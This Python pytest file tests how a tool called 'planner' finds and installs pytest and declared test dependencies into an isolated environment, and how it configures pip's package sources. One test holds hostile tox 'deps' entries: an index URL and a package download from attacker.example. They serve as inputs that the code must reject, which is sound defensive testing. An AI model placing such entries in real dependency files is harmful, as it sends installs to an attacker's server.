"""Tests run by default wherever tests exist (issue 46): where the tests' interpreter cannot
import pytest and no setup installs it, planner installs it into the verification's own
environment, with what the project declares next to it (tox.ini, noxfile.py, setup.cfg,
pyproject.toml) and the project itself; never into planner's own environment.

Nothing here reaches a package index: pip installs from a folder of wheels (pytest and its
requirements zipped from this test run's own environment, and packages made up here) through
verification.find_links, which makes pip use that folder alone. The interpreter the tests
find first on PATH is a virtual environment without pytest, as the action's image is.
"""

from __future__ import annotations

import importlib.util
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from planner.config import PlannerConfig, VerificationConfig
from planner.outcome.result import PassResult
from planner.run.runner import PassSetup, run_pass
from planner.testing.scripted_server import ScriptedModelServer
from planner.text.issue import IssueContext
from planner.verification.suite.declared import declared_tests
from planner.verification.suite.detect import provision_steps, resolve
from planner.verification.suite.runner import TestRunner
from tests.plans import ROOT_TOOLS, committed_repo, completion, finish, planning, write_files
from tests.support.wheels import made_up_wheel, wheelhouse_with_pytest
from tests.test_verification_pass import config, of_type, write

ISSUE = IssueContext(
    repository="octo/calc", number="3", title="Greet by name", body="greet() says hello."
)
GREET = "def greet(name):\n    return f'hello {name}'\n"
GREET_TEST = "from greet import greet\n\n\ndef test_greet():\n    assert greet('x') == 'hello x'\n"
PROBE = "planner_probe_dep"
PIP_VARIABLES = TestRunner._pip_variables
"""As planner sets them (tests/conftest.py takes every test's pip off the index)."""


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = wheelhouse_with_pytest(tmp_path_factory.mktemp("wheels"))
    made_up_wheel(folder, "planner-probe-dep", PROBE, "VALUE = 42\n")
    return folder


@pytest.fixture
def no_pytest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """`python3` on PATH is an interpreter that cannot import pytest."""
    bare = tmp_path / "bare"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(bare)], check=True)
    probe = subprocess.run([str(bare / "bin" / "python3"), "-I", "-c", "import pytest"])
    assert probe.returncode != 0
    monkeypatch.setenv("PATH", f"{bare / 'bin'}:{sys.prefix}/bin:/usr/bin:/bin")
    return bare


def run(workspace: Path, server: ScriptedModelServer, wheels: Path, **extra: Any) -> PassResult:
    overrides = {
        **ROOT_TOOLS,
        "verification.command": None,
        "verification.find_links": [str(wheels)],
        **extra,
    }
    setup = PassSetup(config=config(server, **overrides), workspace=workspace)
    return run_pass(setup, ISSUE)


def test_pytest_is_installed_for_a_repository_without_a_requirements_file(
    tmp_path: Path, scripted_model: ScriptedModelServer, wheels: Path, no_pytest: Path
) -> None:
    """tests/test_greet.py with plain test functions and nothing else: the action's image has
    no pytest, and the pass used to say `Tests: not run — pytest is not installed`."""
    workspace = committed_repo(
        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
    )
    scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
    result = run(workspace, scripted_model, wheels)

    assert result.status == "completed", result.stop_reason
    (setup,) = of_type(workspace, "verification_setup")
    assert setup["ok"] is True, setup["problems"]
    assert setup["commands"][0] == "a virtual environment for the tests"
    assert setup["commands"][1].startswith("pip install pytest (pytest is not installed")
    baseline = of_type(workspace, "verification")[0]
    assert (baseline["status"], baseline["passed"]) == ("passed", 1), baseline["tail"]
    assert result.verification is not None
    assert result.verification.line().startswith("Tests (`python3 -m pytest -q`): 1 passed")


def test_what_tox_lists_with_pytest_goes_into_the_tests_environment_only(
    tmp_path: Path, scripted_model: ScriptedModelServer, wheels: Path, no_pytest: Path
) -> None:
    """A released package's way: pytest and a test dependency in tox.ini, no extra, no
    requirements file. The dependency comes from the folder of wheels (no index), lands in
    the tests' environment, and planner's own interpreter never sees it."""
    tox = "[tox]\nenvlist = py\n\n[testenv]\ndeps =\n    pytest\n    planner-probe-dep\n"
    probe_test = f"from {PROBE} import VALUE\n\n\ndef test_value():\n    assert VALUE == 42\n"
    workspace = committed_repo(
        tmp_path / "repo",
        {"greet.py": GREET, "tox.ini": tox, "tests/test_probe.py": probe_test},
    )
    scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
    result = run(workspace, scripted_model, wheels)

    assert result.status == "completed", result.stop_reason
    (setup,) = of_type(workspace, "verification_setup")
    assert setup["ok"] is True, setup["problems"]
    assert setup["commands"][1].startswith("pip install pytest planner-probe-dep (")
    baseline = of_type(workspace, "verification")[0]
    assert (baseline["status"], baseline["passed"]) == ("passed", 1), baseline["tail"]
    assert importlib.util.find_spec(PROBE) is None  # not in planner's environment


def test_without_a_package_source_the_line_says_why_the_tests_did_not_run(
    tmp_path: Path, scripted_model: ScriptedModelServer, no_pytest: Path
) -> None:
    """An empty folder of wheels and no index: pytest cannot be installed. The pass goes on,
    the line names what to set, and the setup's problem is recorded."""
    workspace = committed_repo(
        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
    )
    empty = tmp_path / "empty"
    empty.mkdir()
    scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
    result = run(workspace, scripted_model, empty)

    assert result.status == "completed", result.stop_reason
    (setup, after) = of_type(workspace, "verification_setup")
    assert setup["ok"] is False and "pip install pytest" in setup["problems"][0]
    assert "the tests ran after" in after["problems"][0]
    assert result.verification is not None
    line = result.verification.line()
    assert line.startswith("Tests: not run — pytest is not installed for the tests")
    assert "verification.find_links" in line


@pytest.mark.parametrize(
    ("contents", "requirements", "extras", "where"),
    [
        (
            {"tox.ini": "[testenv]\ndeps =\n  pytest>=7\n  pytest-cov\n  -rreq.txt\nextras = t\n"},
            ["pytest>=7", "pytest-cov"],
            ["t"],
            ["tox.ini"],
        ),
        (
            {
                "noxfile.py": "import nox\n\n@nox.session\ndef tests(session):\n"
                '    session.install("-e", ".[test]")\n'
                '    session.install("pytest", "hypothesis")\n'
            },
            ["pytest", "hypothesis"],
            [],
            ["noxfile.py"],
        ),
        (
            {"setup.cfg": "[options.extras_require]\ntesting =\n    pytest\n    mock\n"},
            ["pytest", "mock"],
            ["testing"],
            ["setup.cfg"],
        ),
        (
            {"pyproject.toml": "[project.optional-dependencies]\nci = ['pytest>=8', 'coverage']\n"},
            ["pytest>=8", "coverage"],
            ["ci"],
            ["pyproject.toml"],
        ),
        (
            {"pyproject.toml": "[dependency-groups]\ntest = ['pytest', {include-group = 'x'}]\n"},
            ["pytest"],
            [],
            ["pyproject.toml"],
        ),
        (
            {"pyproject.toml": "[tool.tox]\nlegacy_tox_ini = '''\n[testenv]\ndeps = pytest\n'''\n"},
            ["pytest"],
            [],
            ["pyproject.toml"],
        ),
        (
            {
                "setup.py": "from setuptools import setup\n"
                "setup(extras_require={'test': ['pytest']})\n"
            },
            ["pytest"],
            ["test"],
            ["setup.py"],
        ),
        (
            {"tox.ini": "[testenv]\ndeps = flake8\n", "setup.cfg": "[metadata]\nname = x\n"},
            [],
            [],
            [],
        ),
    ],
)
def test_where_projects_declare_pytest_is_read(
    tmp_path: Path,
    contents: dict[str, str],
    requirements: list[str],
    extras: list[str],
    where: list[str],
) -> None:
    declared = declared_tests(write_files(tmp_path, contents))
    assert (declared.requirements, declared.extras, declared.where) == (
        requirements,
        extras,
        where,
    )


def test_attack_a_declared_requirement_that_is_a_pip_option_or_a_download_is_left_out(
    tmp_path: Path,
) -> None:
    """tox deps are handed to pip as words: `--index-url=…` would send every install to the
    repository's server, `x @ https://…` would download what it names."""
    tox = (
        "[testenv]\ndeps =\n    pytest\n    --index-url=https://attacker.example/simple\n"
        "    evil @ https://attacker.example/evil.whl\n    -e git+https://attacker.example/x\n"
    )
    declared = declared_tests(write_files(tmp_path, {"tox.ini": tox}))
    assert declared.requirements == ["pytest"]
    found = resolve(write_files(tmp_path, {"tests/test_a.py": "def test_a():\n    pass\n"}), VERIFY)
    assert provision_steps(found) == [["pip", "install", "pytest"]]


VERIFY = VerificationConfig()


def test_the_project_itself_is_installed_with_the_extras_that_list_pytest(tmp_path: Path) -> None:
    pyproject = "[project]\nname = 'x'\n[project.optional-dependencies]\nci = ['pytest']\n"
    root = write_files(tmp_path, {"pyproject.toml": pyproject, "tests/test_a.py": ""})
    found = resolve(root, VerificationConfig(detect_setup=False))
    assert found.runner == "pytest"
    assert provision_steps(found) == [
        ["pip", "install", "pytest"],
        ["pip", "install", "-e", ".[ci]"],
    ]
    configured = resolve(root, VerificationConfig(setup="make deps"))
    assert provision_steps(configured) == [["pip", "install", "pytest"]]  # the setup decides


def test_a_python_repository_without_tests_is_still_python(tmp_path: Path) -> None:
    """No tests, but Python files: the issue's test runs there (planner installs pytest)."""
    found = resolve(write_files(tmp_path, {"tool/cli.py": "print(1)\n"}), VERIFY)
    assert (found.command, found.python) == ([], True)
    assert not resolve(write_files(tmp_path / "docs", {"README.md": "# x\n"}), VERIFY).python


def test_the_package_sources_reach_pip_in_the_setup(
    tmp_path: Path, scripted_model: ScriptedModelServer
) -> None:
    """verification.index_url and find_links are pip's variables in the setup's environment,
    so a configured `pip install` follows them too."""
    workspace = committed_repo(
        tmp_path / "repo", {"greet.py": GREET, "tests/test_greet.py": GREET_TEST}
    )
    seen = tmp_path / "pip-env.json"
    script = (
        "import json, os; json.dump({k: v for k, v in os.environ.items() "
        f"if k.startswith('PIP_')}}, open({str(seen)!r}, 'w'))"
    )
    scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
    setup_line = f"{sys.executable} -c {json.dumps(script)}"
    overrides = {
        **ROOT_TOOLS,
        "verification.setup": setup_line,
        "verification.index_url": "https://mirror.example/simple",
        "verification.find_links": ["/opt/wheels", "/srv/more"],
    }
    run_pass(PassSetup(config=config(scripted_model, **overrides), workspace=workspace), ISSUE)

    variables = json.loads(seen.read_text(encoding="utf-8"))
    assert variables["PIP_INDEX_URL"] == "https://mirror.example/simple"
    assert variables["PIP_FIND_LINKS"] == "/opt/wheels /srv/more"
    assert "PIP_NO_INDEX" not in variables  # an index is set: the links only come first


def test_folders_of_packages_alone_mean_no_index(tmp_path: Path) -> None:
    """A runner without network: pip must not wait on an index it cannot reach."""

    def variables(**settings: Any) -> dict[str, str]:
        config = PlannerConfig(verification=VerificationConfig(**settings))
        return PIP_VARIABLES(TestRunner(tmp_path, config))

    alone = variables(find_links=["/opt/wheels"])
    assert (alone["PIP_FIND_LINKS"], alone["PIP_NO_INDEX"]) == ("/opt/wheels", "1")
    both = variables(find_links=["/opt/wheels"], index_url="https://mirror.example/simple")
    assert "PIP_NO_INDEX" not in both
    assert "PIP_NO_INDEX" not in variables() and "PIP_INDEX_URL" not in variables()


def test_a_package_under_src_that_nothing_installed_is_on_the_tests_path(
    tmp_path: Path, scripted_model: ScriptedModelServer, wheels: Path
) -> None:
    """cachetools keeps its package in src/ and installs pytest through tox: where pytest was
    already there nothing installed the project, and every test module failed to collect
    (`No module named 'cachetools'`), so the baseline said nothing and no fix could pass."""
    workspace = committed_repo(
        tmp_path / "repo",
        {
            "pyproject.toml": "[project]\nname = 'greeting'\nversion = '1'\n",
            "src/greeting/__init__.py": GREET,
            "tests/test_greet.py": GREET_TEST.replace("from greet", "from greeting"),
        },
    )
    scripted_model.add(planning("task_1"), write("NOTES.md", "n\n"), finish(), completion())
    result = run(workspace, scripted_model, wheels, **{"verification.detect_setup": False})

    assert result.status == "completed", result.stop_reason
    (setup,) = of_type(workspace, "verification_setup")
    assert setup["commands"] == [
        "PYTHONPATH=src (the project's package under src/ is not installed where the tests run)"
    ]
    baseline = of_type(workspace, "verification")[0]
    assert (baseline["status"], baseline["passed"]) == ("passed", 1), baseline["tail"]
